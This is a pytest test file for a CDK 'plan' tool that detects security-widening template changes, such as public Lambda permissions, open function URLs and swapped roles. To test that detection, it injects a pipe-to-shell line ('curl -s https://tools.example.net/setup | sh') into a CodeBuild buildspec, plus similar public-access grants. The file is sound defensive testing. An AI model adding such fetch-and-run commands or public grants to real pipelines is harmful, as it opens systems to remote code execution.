"""``plan``'s security verdict for access that is not an IAM policy (issue 62): each category on a
real synthesized template edited as a commit would edit it, judged by the real CDK diff engine
through ``python -m model_build plan``.

A function's role switched to the placing role, a public ``AWS::Lambda::Permission``, an
``AWS::Lambda::Url`` with ``AuthType: NONE``, the build state machine's role and definition, an
``HF_ENDPOINT`` in a function's environment, a layer, the code's source, a function taken out of
its VPC, an SNS topic policy (the created-VPC, alarm-topic template), and a CodeBuild project's
buildspec, role and environment (the pipeline's template): each ``security-changed``, exit 4,
naming the resource and the property. A resource type the verdict does not know that carries a
role: ``unknown``, exit 4. The reverse of a widening narrows (exit 3) and a new version of the
same code asset is no security finding. The upgrade from 0.1.0: the summary and security lines
stay within their bound while the detail lists every change, one per line. The table's rules
for types no template here carries, on their own.
"""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from cdk_helpers import synth, synth_pipeline

from triton_mme_cdk.model_build.__main__ import main
from triton_mme_cdk.model_build.release.deployed import record_from_template
from triton_mme_cdk.model_build.release.routes import Routes
from triton_mme_cdk.model_build.tools.review.plan_verdict import HEADLINE_LIMIT

ROOT = Path(__file__).resolve().parents[1]
SCHEMA = json.loads((ROOT / "model_build" / "tools" / "review" / "plan.schema.json").read_text())
STACK_ARN = "arn:aws:cloudformation:eu-west-1:123456789012:stack/TritonMme/0a1b2c3d"
PREVIOUS_TEMPLATE = ROOT / "tests" / "snapshots" / "TritonMme.0.1.0.template.json"
#: The most characters of the summary line in the upgrade from 0.1.0 (the models' counts, the
#: fleet's verdict and the security line of at most HEADLINE_LIMIT characters).
SUMMARY_LIMIT = 600
pytestmark = pytest.mark.slow  # real synths and the diff engine on Node.js

Edit = Callable[[dict[str, Any]], object]


@pytest.fixture(scope="module")
def work(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("plan-access")


@pytest.fixture(scope="module")
def default(work: Path) -> dict[str, Any]:
    return synth(work / "default", nag=False).data


@pytest.fixture(scope="module")
def network(work: Path) -> dict[str, Any]:
    """The template with a created VPC and an alarm topic (its topic policy)."""
    return synth(work / "network", nag=False, create_vpc="true", alarm_topic_enabled="true").data


@pytest.fixture(scope="module")
def pipeline(work: Path) -> dict[str, Any]:
    """The pipeline stack's template (its CodeBuild projects)."""
    return synth_pipeline(work / "pipeline").templates["TritonMmePipeline"]


def _function(resources: dict[str, Any], step: str) -> str:
    """The logical id of the model build's function that runs ``handler.<step>``."""
    (lid,) = [lid for lid, r in resources.items() if r["Type"] == "AWS::Lambda::Function"
              and r["Properties"].get("ImageConfig", {}).get("Command", [""])[0].endswith(f"handler.{step}")]
    return lid


def _build(resources: dict[str, Any]) -> str:
    return _function(resources, "build_step")  # parses the model sources, with the build role


def _placing_role(resources: dict[str, Any]) -> dict[str, Any]:
    return dict(resources[_function(resources, "place_step")]["Properties"]["Role"])


def _state_machine(resources: dict[str, Any]) -> str:
    (lid,) = [lid for lid in resources if lid.startswith("ModelBuildBuildStateMachine")
              and resources[lid]["Type"] == "AWS::StepFunctions::StateMachine"]
    return lid


def _asset_project(resources: dict[str, Any]) -> str:
    return next(lid for lid in sorted(resources) if lid.startswith("PipelineAssetsFileAsset"))


def _plan(capsys: pytest.CaptureFixture[str], work: Path, name: str, deployed: dict[str, Any], new: dict[str, Any],
          *extra: str) -> tuple[int, dict[str, Any]]:
    """``plan`` of ``new`` over the deployed template ``deployed``, the live routes the default
    manifest's with the deployed record: its exit code and its JSON (checked against the schema)."""
    routes = Routes("r-0000000000000000", "s3://b/models/served/", "k", {}, stack=STACK_ARN,
                    model_code_sha256="0" * 64, deployed=record_from_template(deployed)
                    if any(r["Type"] == "Custom::TritonModelRelease" for r in deployed["Resources"].values()) else None)
    paths = {side: work / f"{name}-{side}.json" for side in ("routes", "old", "new")}
    paths["routes"].write_bytes(routes.body())
    paths["old"].write_text(json.dumps(deployed), encoding="utf-8")
    paths["new"].write_text(json.dumps(new), encoding="utf-8")
    code = main(["plan", "--format", "json", "--detailed-exitcode", "--routes-file", str(paths["routes"]),
                 "--template", str(paths["new"]), "--deployed-template", str(paths["old"]),
                 "--manifest", str(ROOT / "models.yaml"), *extra])
    captured = capsys.readouterr()
    assert code in (0, 3, 4), captured.err
    report = json.loads(captured.out)
    jsonschema.validate(report, SCHEMA, cls=jsonschema.Draft202012Validator)
    assert report["exit_code"] == code
    return code, report


def _edited(template: dict[str, Any], edit: Edit) -> dict[str, Any]:
    changed = copy.deepcopy(template)
    edit(changed["Resources"])
    return changed


# ---------------------------------------------------------------------------------------------
# The edits, each as a commit would make it
# ---------------------------------------------------------------------------------------------


def _role_to_placing(resources: dict[str, Any]) -> str:
    resources[_build(resources)]["Properties"]["Role"] = _placing_role(resources)
    return _build(resources)


def _public_permission(resources: dict[str, Any]) -> str:
    resources["PublicInvoke"] = {"Type": "AWS::Lambda::Permission", "Properties": {
        "Action": "lambda:InvokeFunction", "FunctionName": {"Fn::GetAtt": [_build(resources), "Arn"]}, "Principal": "*"}}
    return "PublicInvoke"


def _open_url(resources: dict[str, Any]) -> str:
    resources["BuildUrl"] = {"Type": "AWS::Lambda::Url", "Properties": {
        "AuthType": "NONE", "TargetFunctionArn": {"Fn::GetAtt": [_build(resources), "Arn"]}}}
    return "BuildUrl"


def _state_machine_role(resources: dict[str, Any]) -> str:
    resources[_state_machine(resources)]["Properties"]["RoleArn"] = _placing_role(resources)
    return _state_machine(resources)


def _build_places_itself(resources: dict[str, Any]) -> str:
    """The definition's placing steps invoke the build function: the build role places its own output."""
    place, build = _function(resources, "place_step"), _build(resources)
    parts = resources[_state_machine(resources)]["Properties"]["DefinitionString"]["Fn::Join"][1]
    parts[:] = [{"Fn::GetAtt": [build, "Arn"]} if part == {"Fn::GetAtt": [place, "Arn"]} else part for part in parts]
    return _state_machine(resources)


def _hf_endpoint(resources: dict[str, Any]) -> str:
    resources[_build(resources)]["Properties"]["Environment"] = {"Variables": {"HF_ENDPOINT": "https://hub.example.net"}}
    return _build(resources)


def _layer(resources: dict[str, Any]) -> str:
    resources[_build(resources)]["Properties"]["Layers"] = ["arn:aws:lambda:eu-west-1:999999999999:layer:extra:3"]
    return _build(resources)


def _foreign_image(resources: dict[str, Any]) -> str:
    resources[_build(resources)]["Properties"]["Code"] = {
        "ImageUri": "999999999999.dkr.ecr.eu-west-1.amazonaws.com/elsewhere:latest"}
    return _build(resources)


def _unknown_type(resources: dict[str, Any]) -> str:
    """A type the verdict's table does not know, carrying the placing role."""
    resources["NightlyBuild"] = {"Type": "AWS::Scheduler::Schedule", "Properties": {
        "ScheduleExpression": "rate(1 day)", "FlexibleTimeWindow": {"Mode": "OFF"},
        "Target": {"Arn": {"Fn::GetAtt": [_build(resources), "Arn"]}, "RoleArn": _placing_role(resources)}}}
    return "NightlyBuild"


def _public_topic(resources: dict[str, Any]) -> str:
    (lid,) = [lid for lid, r in resources.items() if r["Type"] == "AWS::SNS::TopicPolicy"]
    topic = resources[lid]["Properties"]["Topics"][0]
    resources[lid]["Properties"]["PolicyDocument"]["Statement"].append(
        {"Action": "sns:Subscribe", "Effect": "Allow", "Principal": "*", "Resource": topic})
    return lid


def _buildspec_command(resources: dict[str, Any]) -> str:
    project = resources[_asset_project(resources)]["Properties"]
    spec = json.loads(project["Source"]["BuildSpec"])
    spec["phases"]["build"]["commands"].append("curl -s https://tools.example.net/setup | sh")
    project["Source"]["BuildSpec"] = json.dumps(spec, indent=2)
    return _asset_project(resources)


def _project_role(resources: dict[str, Any]) -> str:
    mutation = next(lid for lid in resources if lid.startswith("PipelineUpdatePipelineSelfMutationRole")
                    and resources[lid]["Type"] == "AWS::IAM::Role")
    resources[_asset_project(resources)]["Properties"]["ServiceRole"] = {"Fn::GetAtt": [mutation, "Arn"]}
    return _asset_project(resources)


def _privileged(resources: dict[str, Any]) -> str:
    resources[_asset_project(resources)]["Properties"]["Environment"]["PrivilegedMode"] = True
    return _asset_project(resources)


CASES = [
    # (case, template, edit, resource type, property, access, what the change says)
    ("function-role", "default", _role_to_placing, "Function", "Role", "unknown", "acts with another role's rights"),
    ("public-permission", "default", _public_permission, "Permission", "Principal, Action, FunctionName", "widens",
     "added Allow lambda:InvokeFunction on ${<build>.Arn} for *"),
    ("url-auth-none", "default", _open_url, "Url", "AuthType", "widens", "anyone with the URL invokes the function"),
    ("state-machine-role", "default", _state_machine_role, "StateMachine", "RoleArn", "unknown",
     "acts with another role's rights"),
    ("state-machine-definition", "default", _build_places_itself, "StateMachine", "DefinitionString", "unknown",
     "States.Finish.Resource: ${<place>.Arn} -> ${<build>.Arn}"),
    ("hf-endpoint", "default", _hf_endpoint, "Function", "Environment.Variables.HF_ENDPOINT", "unknown",
     "(unset) -> https://hub.example.net"),
    ("layer", "default", _layer, "Function", "Layers", "widens",
     "added arn:aws:lambda:eu-west-1:999999999999:layer:extra:3"),
    ("code-source", "default", _foreign_image, "Function", "Code", "unknown",
     "ImageUri 999999999999.dkr.ecr.eu-west-1.amazonaws.com/elsewhere: other code runs with the role"),
    ("unknown-type", "default", _unknown_type, "Schedule", "Target", "unknown",
     "AWS::Scheduler::Schedule is a type this plan does not judge, and this property carries a role (RoleArn)"),
    ("topic-policy", "network", _public_topic, "TopicPolicy", "PolicyDocument", "widens", "added Allow sns:Subscribe"),
    ("buildspec", "pipeline", _buildspec_command, "Project", "Source.BuildSpec", "unknown",
     "phases.build.commands[2]: (unset) -> curl -s https://tools.example.net/setup | sh"),
    ("project-role", "pipeline", _project_role, "Project", "ServiceRole", "unknown", "acts with another role's rights"),
    ("project-environment", "pipeline", _privileged, "Project", "Environment.PrivilegedMode", "unknown",
     "false -> true"),
]


@pytest.mark.parametrize(("case", "template", "edit", "short", "prop", "access", "says"), CASES,
                         ids=[case[0] for case in CASES])
def test_each_access_change_is_a_security_verdict_naming_resource_and_property(
        request: pytest.FixtureRequest, work: Path, capsys: pytest.CaptureFixture[str], case: str, template: str,
        edit: Callable[[dict[str, Any]], str], short: str, prop: str, access: str, says: str) -> None:
    """Each printed ``no-change`` (exit 0) before issue 62: now security-changed, exit 4, with the
    resource (type and logical id) and the property named, in the JSON and in the summary."""
    deployed: dict[str, Any] = request.getfixturevalue(template)
    new = copy.deepcopy(deployed)
    lid = edit(new["Resources"])
    code, report = _plan(capsys, work, case, deployed, new)
    assert (code, report["verdict"], report["security"]["verdict"]) == (4, "security-changed", access), report["summary"]
    assert (report["fleet"]["verdict"], report["data"]["verdict"]) == ("unchanged", "safe")
    (finding,) = [f for f in report["security"]["findings"] if f["logical_id"] == lid]
    assert finding["resource"] == f"{short} {lid}" and finding["access"] == access
    if template == "default":
        says = says.replace("<build>", _build(deployed["Resources"])).replace(
            "<place>", _function(deployed["Resources"], "place_step"))
    assert any(c["property"] == prop and c["access"] == access and says in c["change"]
               for c in finding["changes"]), finding["changes"]
    assert f"{short} {lid} ({prop.split('.')[0]}" in report["summary"], report["summary"]
    if case in ("function-role", "state-machine-role", "hf-endpoint", "layer"):
        assert not report["other"]["findings"], "a property the table judges whole is no 'other' finding too"


def test_the_unknown_type_exits_4_in_text_too(default: dict[str, Any], work: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    """The bad-input case: a type the verdict does not know, carrying a role, is unknown (exit 4),
    never "other"; a type it does not know carrying nothing of access is "other" (the routes here
    serve no model yet: models only, exit 3)."""
    new = _edited(default, _unknown_type)
    (work / "unknown-old.json").write_text(json.dumps(default))
    (work / "unknown-new.json").write_text(json.dumps(new))
    _plan(capsys, work, "unknown-text", default, new)
    code = main(["plan", "--detailed-exitcode", "--routes-file", str(work / "unknown-text-routes.json"),
                 "--template", str(work / "unknown-new.json"), "--deployed-template", str(work / "unknown-old.json"),
                 "--manifest", str(ROOT / "models.yaml")])
    text = capsys.readouterr().out
    assert code == 4 and text.splitlines()[-1] == "verdict: security-changed (exit 4 with --detailed-exitcode)"
    assert "  ! security-changed: Schedule NightlyBuild: Target (unset) -> " in text
    assert "security: unclassified (treated as widening) in Schedule NightlyBuild (Target)" in text

    def harmless(resources: dict[str, Any]) -> None:
        resources["Nightly"] = {"Type": "AWS::Scheduler::ScheduleGroup", "Properties": {"Name": "nightly"}}

    code, report = _plan(capsys, work, "unknown-harmless", default, _edited(default, harmless))
    assert (code, report["verdict"], report["security"]["verdict"]) == (3, "models-only", "unchanged")
    assert [f["logical_id"] for f in report["other"]["findings"]] == ["Nightly"]


def test_the_reverse_narrows_and_a_new_version_of_the_same_code_is_no_finding(
        default: dict[str, Any], work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A public permission removed and a URL turned back to AWS_IAM narrow only: exit 3, nothing
    reported as widening. A new image of the same asset repository is the commit's own code: no
    security finding (an "other" one)."""
    def opened(resources: dict[str, Any]) -> None:
        _public_permission(resources)
        _open_url(resources)

    def signed(resources: dict[str, Any]) -> None:
        _open_url(resources)
        resources["BuildUrl"]["Properties"]["AuthType"] = "AWS_IAM"

    code, report = _plan(capsys, work, "narrows", _edited(default, opened), _edited(default, signed))
    assert (code, report["verdict"], report["security"]["verdict"]) == (3, "security-changed", "narrows")
    changes = {(f["logical_id"], c["property"], c["access"]) for f in report["security"]["findings"] for c in f["changes"]}
    assert changes == {("PublicInvoke", "Principal, Action, FunctionName", "narrows"), ("BuildUrl", "AuthType", "narrows")}
    assert report["summary"].endswith("; access narrows only: 2 changes in 2 resources") and "widens" not in report[
        "summary"]

    def new_image(resources: dict[str, Any]) -> None:
        code_ = resources[_build(resources)]["Properties"]["Code"]
        code_["ImageUri"]["Fn::Sub"] = code_["ImageUri"]["Fn::Sub"].rsplit(":", 1)[0] + ":" + "f" * 64

    code, report = _plan(capsys, work, "new-image", default, _edited(default, new_image))
    assert (code, report["verdict"], report["security"]["verdict"]) == (3, "models-only", "unchanged")
    assert [f["logical_id"] for f in report["other"]["findings"]] == [_build(default["Resources"])]


def test_a_function_taken_out_of_its_vpc_widens(network: dict[str, Any], work: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    """Deployed with the build function in the created VPC's subnets; the change removes it."""
    def in_vpc(resources: dict[str, Any]) -> None:
        subnets = [{"Ref": lid} for lid, r in sorted(resources.items()) if r["Type"] == "AWS::EC2::Subnet"]
        group = next(lid for lid, r in sorted(resources.items()) if r["Type"] == "AWS::EC2::SecurityGroup")
        resources[_build(resources)]["Properties"]["VpcConfig"] = {
            "SubnetIds": subnets, "SecurityGroupIds": [{"Fn::GetAtt": [group, "GroupId"]}]}

    code, report = _plan(capsys, work, "vpc", _edited(network, in_vpc), network)
    assert (code, report["security"]["verdict"]) == (4, "widens")
    (finding,) = [f for f in report["security"]["findings"] if f["logical_id"] == _build(network["Resources"])]
    assert [(c["property"], c["access"]) for c in finding["changes"]] == [("VpcConfig", "widens")]
    assert finding["changes"][0]["change"].startswith("removed: runs outside the VPC")


def test_the_upgrade_from_0_1_0_reads_short_and_lists_every_change(
        default: dict[str, Any], work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The 0.1.0 template against today's: the summary and security lines stay within their bound
    (they ran to thousands of characters), the headline names only what widens or cannot be
    classified and counts what narrows; the text's detail and the markdown give every change, one
    per line; the JSON holds every one."""
    previous = json.loads(PREVIOUS_TEMPLATE.read_text())
    code, report = _plan(capsys, work, "upgrade", previous, default)
    assert (code, report["verdict"]) == (4, "security-changed")
    changes = [(f, c) for f in report["security"]["findings"] for c in f["changes"]]
    narrowing = [c for _, c in changes if c["access"] == "narrows"]
    assert narrowing and any(c["access"] == "widens" for _, c in changes)
    paths = {side: str(work / f"upgrade-{side}.json") for side in ("routes", "old", "new")}
    args = ["--routes-file", paths["routes"], "--template", paths["new"], "--deployed-template", paths["old"],
            "--manifest", str(ROOT / "models.yaml")]
    main(["plan", *args, "--markdown-file", str(work / "upgrade.md")])
    lines = capsys.readouterr().out.splitlines()
    (summary,) = [line for line in lines if line.startswith("models: ")]
    (security,) = [line for line in lines if line.startswith("security: ")]
    assert len(summary) <= SUMMARY_LIMIT and len(security) <= len("security: ") + HEADLINE_LIMIT, (summary, security)
    where = len({f["logical_id"] for f, c in changes if c["access"] == "narrows"})
    assert security.endswith(f"; narrows: {len(narrowing)} changes in {where} resources"), security
    # Every resource the headline names widens or cannot be classified.
    named = set(re.findall(r"\b[A-Z][A-Za-z]+ ([A-Za-z0-9]+) \(", security.split("; narrows:")[0]))
    access = {f["logical_id"]: {c["access"] for c in f["changes"]} for f in report["security"]["findings"]}
    assert named and all(access[lid] & {"widens", "unknown"} for lid in named), named
    detail = [line for line in lines if line.startswith("  ! security-changed: ")]
    assert len(detail) == len(changes)
    for finding, change in changes:
        assert f"  ! security-changed: {finding['resource']}: {change['property']} {change['change']} " \
               f"({change['access']})" in detail
    order = [line.rsplit("(", 1)[1] for line in detail]
    assert order == sorted(order, key=["widens)", "unknown)", "narrows)"].index), "what widens first"
    markdown = (work / "upgrade.md").read_text().splitlines()
    assert markdown[3].startswith("**Security:** access widens in ") and len(markdown[3]) < 600
    assert len([line for line in markdown if re.match(r"- \*\*(widens|unknown|narrows)\*\*: ", line)]) == len(changes)


# ---------------------------------------------------------------------------------------------
# The table's rules for types no template here carries
# ---------------------------------------------------------------------------------------------

_PUBLIC_SEND = {"Effect": "Allow", "Action": "sqs:SendMessage", "Principal": "*", "Resource": "arn:aws:sqs:::q"}
_PULL = {"Effect": "Allow", "Action": "ecr:BatchGetImage", "Principal": {"AWS": "arn:aws:iam::999999999999:root"}}


@pytest.mark.parametrize(("resource_type", "old", "new", "expected"), [
    ("AWS::SQS::QueuePolicy", {"PolicyDocument": {"Statement": []}, "Queues": ["q"]},
     {"PolicyDocument": {"Statement": [_PUBLIC_SEND]}, "Queues": ["q"]},
     [("PolicyDocument", "added Allow sqs:SendMessage on arn:aws:sqs:::q for *", "widens")]),
    ("AWS::ECR::Repository", {"RepositoryName": "r"},
     {"RepositoryName": "r", "RepositoryPolicyText": json.dumps({"Statement": [_PULL]})},
     [("RepositoryPolicyText", "added Allow ecr:BatchGetImage for AWS:arn:aws:iam::999999999999:root", "widens")]),
    ("AWS::Logs::ResourcePolicy", {"PolicyName": "p", "PolicyDocument": json.dumps({"Statement": [_PULL]})},
     {"PolicyName": "p", "PolicyDocument": json.dumps({"Statement": []})},
     [("PolicyDocument", "removed Allow ecr:BatchGetImage for AWS:arn:aws:iam::999999999999:root", "narrows")]),
    ("AWS::Lambda::LayerVersionPermission", None,
     {"Action": "lambda:GetLayerVersion", "LayerVersionArn": "arn:aws:lambda:eu-west-1:1:layer:x:1", "Principal": "*"},
     [("Principal, Action, LayerVersionArn", "added Allow lambda:GetLayerVersion on arn:aws:lambda:eu-west-1:1:layer:x:1 "
       "for *", "widens")]),
    ("AWS::Lambda::Permission",
     {"Action": "lambda:InvokeFunction", "FunctionName": "f", "Principal": "s3.amazonaws.com", "SourceAccount": "1"},
     {"Action": "lambda:InvokeFunction", "FunctionName": "f", "Principal": "s3.amazonaws.com"},
     [("SourceAccount", "removed the condition of Allow lambda:InvokeFunction on f for Service:s3.amazonaws.com",
       "widens")]),
    ("AWS::SageMaker::Model", {"ExecutionRoleArn": "a", "EnableNetworkIsolation": True}, {"ExecutionRoleArn": "a"},
     [("EnableNetworkIsolation", "true -> (unset)", "widens")]),
    ("AWS::SNS::Topic", {"KmsMasterKeyId": "alias/k"}, {},
     [("KmsMasterKeyId", "alias/k -> (unset): an AWS owned key, readable without access to a key policy", "widens")]),
    ("AWS::CodePipeline::Pipeline", {"RoleArn": "arn:aws:iam::1:role/a"}, {"RoleArn": "arn:aws:iam::1:role/b"},
     [("RoleArn", "arn:aws:iam::1:role/a -> arn:aws:iam::1:role/b: acts with another role's rights", "unknown")]),
    ("AWS::Batch::JobDefinition", {"Type": "container"},
     {"Type": "container", "ContainerProperties": {"JobRoleArn": "arn:aws:iam::1:role/x"}},
     [("ContainerProperties", '(unset) -> {"JobRoleArn": "arn:aws:iam::1:role/x"}: AWS::Batch::JobDefinition is a type '
       "this plan does not judge, and this property carries a role (JobRoleArn)", "unknown")]),
    ("Custom::Thing", {"ServiceToken": "arn:aws:lambda:eu-west-1:1:function:a"},
     {"ServiceToken": "arn:aws:lambda:eu-west-1:1:function:b"},
     [("ServiceToken", "arn:aws:lambda:eu-west-1:1:function:a -> arn:aws:lambda:eu-west-1:1:function:b: Custom::Thing "
       "is a type this plan does not judge, and this property carries the function that handles it (ServiceToken)",
       "unknown")]),
    ("AWS::Glue::Job", None, {"Name": "j", "Command": {"Name": "glueetl"}}, []),
    ("AWS::StepFunctions::StateMachine", {"DefinitionString": '{"StartAt": "A", "States": {"A": {"Type": "Pass"}}}'},
     {"DefinitionString": '{"States":{"A":{"Type":"Pass"}},"StartAt":"A"}'}, []),
    ("AWS::CodeBuild::Project", {"Source": {"BuildSpec": "version: 0.2\nphases:\n  build:\n    commands:\n      - make"}},
     {"Source": {"BuildSpec": "version: 0.2\nphases:\n  build:\n    commands:\n      - make\n      - curl x | sh"}},
     [("Source.BuildSpec", "changed: added line - curl x | sh", "unknown")]),
])
def test_the_table_on_its_own(resource_type: str, old: dict[str, Any] | None, new: dict[str, Any] | None,
                              expected: list[tuple[str, str, str]]) -> None:
    """A queue, repository (a JSON string), log and layer policy; a permission's source condition
    removed; network isolation and a topic's key removed; a pipeline's role switched; types the
    table does not know, with a role and with a handler (unknown), and with nothing of access (no
    security change: "other"); a definition written another way (no change) and a YAML buildspec
    (compared line by line)."""
    from triton_mme_cdk.model_build.tools.review.plan_access import security_changes

    assert [(c.path, c.text, c.access) for c in security_changes(resource_type, old, new)] == expected
